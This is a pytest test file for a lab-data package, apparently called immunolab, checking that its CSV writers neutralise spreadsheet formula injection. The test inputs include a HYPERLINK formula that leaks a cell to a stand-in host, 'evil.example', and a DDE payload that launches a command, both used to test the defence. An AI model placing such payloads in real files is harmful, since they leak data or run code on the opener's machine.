"""Every CSV immunolab writes opens in a spreadsheet as data: formula-like text is neutralised (OWASP).

An analyte named ``=HYPERLINK(...)`` in an input file used to come out as a live formula in every
CSV ``compare`` wrote. Now text cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
return get a leading apostrophe; numbers stay numbers; Parquet and JSON keep the raw value.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from immunolab.io.csv_safe import FORMULA_STARTS, neutralise_cell, neutralise_row, write_csv
from tests.reliability.conftest import FIGURES

#: figures for `make reliability` (rendered into the README)
COUNTS = FIGURES.setdefault("test_compare_tables_neutralise_formulas", {"csv_files": 0, "live_formulas": 0})

REPO = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


@pytest.mark.parametrize("text", ["=1+1", "+A1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=cmd|' /C calc'!A0",
                                  "\uff1dHYPERLINK(1)", "-", "+"])
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+4", "-1e-3", ".5", "CD4+ T", "IL-6", "HLA-DR+ T", "", 12, -2.0, None])
def test_numbers_and_ordinary_names_are_left_alone(value: object) -> None:
    assert neutralise_cell(value) == value


def test_rows_for_csv_writer_users_are_neutralised_cell_by_cell() -> None:
    assert neutralise_row(["=1", 2, "-7", "x"]) == ["'=1", 2, "-7", "x"]


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="") as fh:
        return list(csv.reader(fh))


def _assert_no_live_formula(path: Path) -> None:
    COUNTS["csv_files"] += 1
    live = [c for row in _cells(path) for c in row if c.startswith(FORMULA_STARTS) and not NUMBER.match(c.strip())]
    COUNTS["live_formulas"] += len(live)
    assert live == [], f"{path.name}: live formula cells {live[:3]!r}"


def test_write_csv_neutralises_text_cells_and_headers_but_keeps_numbers_numeric(tmp_path: Path) -> None:
    df = pd.DataFrame({"feature": [EVIL, "IL-6", "@x"], "value": [-1.5, 2.0, 3.0], EVIL: ["-4", "+5", "ok"]})
    df["feature_cat"] = df["feature"].astype("category")
    path = write_csv(df, tmp_path / "t.csv")
    _assert_no_live_formula(path)
    rows = _cells(path)
    assert rows[0][2] == "'" + EVIL and rows[1][0] == "'" + EVIL and rows[1][3] == "'" + EVIL
    back = pd.read_csv(path)
    assert back["value"].dtype.kind == "f" and back["value"].tolist() == [-1.5, 2.0, 3.0]
    assert back["'" + EVIL].tolist() == ["-4", "+5", "ok"]
    assert df.loc[0, "feature"] == EVIL  # the caller's frame is not modified


def test_compare_tables_neutralise_an_analyte_named_like_a_formula(tmp_path: Path) -> None:
    from immunolab.analysis.compare import compare_arms, write_comparison
    from immunolab.analysis.measurements_view import measurements_view
    from tests.analysis import synthetic as syn

    m = syn.measurements(0)
    m.loc[m["feature"] == "IL-6", "feature"] = EVIL
    result = compare_arms(measurements_view(m))
    paths = write_comparison(result, tmp_path / "out")
    csvs = [p for p in paths if p.suffix == ".csv"]
    assert {"auc.csv", "omnibus.csv", "visit_effects.csv"} <= {p.name for p in csvs}
    seen = 0
    for path in csvs:
        _assert_no_live_formula(path)
        text = path.read_text()
        seen += text.count("'" + EVIL.replace('"', '""'))
        frame = pd.read_parquet(path.with_suffix(".parquet"))
        if "feature" in frame.columns:
            assert EVIL in set(frame["feature"]), f"{path.stem}.parquet lost the raw name"
    assert seen > 0
    omnibus = pd.read_csv(tmp_path / "out" / "omnibus.csv")
    assert omnibus["p"].dtype.kind == "f"


def test_adam_csvs_are_neutralised_and_parquet_keeps_the_raw_value(tmp_path: Path) -> None:
    from immunolab.analysis.adam import build_adlb, build_adsl, write_adam
    from tests.analysis.test_adam import _ae, _outcomes, _subjects, _view

    subj = _subjects()
    subj.loc[0, "specimen"] = EVIL
    view = _view()
    view.loc[view.index[0], "feature"] = "@" + str(view.loc[view.index[0], "feature"])
    write_adam(tmp_path, build_adsl(subj, _outcomes(), _ae()), build_adlb(view, subj), xpt=False)
    for name in ("adsl", "adlb"):
        _assert_no_live_formula(tmp_path / f"{name}.csv")
    assert EVIL in set(pd.read_parquet(tmp_path / "adsl.parquet")["SPECIMEN"])
    assert "'" + EVIL.replace('"', '""') in (tmp_path / "adsl.csv").read_text()
    assert any(cell.startswith("'@") for row in _cells(tmp_path / "adlb.csv") for cell in row)


def test_every_csv_the_package_writes_goes_through_write_csv() -> None:
    """No ``to_csv`` / ``csv.writer`` outside csv_safe.py (the demo generator writes simulated instrument files)."""
    offenders = []
    for path in sorted((REPO / "immunolab").rglob("*.py")) + sorted((REPO / "assays").rglob("*.py")):
        rel = path.relative_to(REPO).as_posix()
        if rel in ("immunolab/io/csv_safe.py",) or rel.startswith("immunolab/demo/"):
            continue
        text = path.read_text()
        if re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", text):
            offenders.append(rel)
    assert offenders == [], f"CSV written without immunolab.io.csv_safe.write_csv in {offenders}"
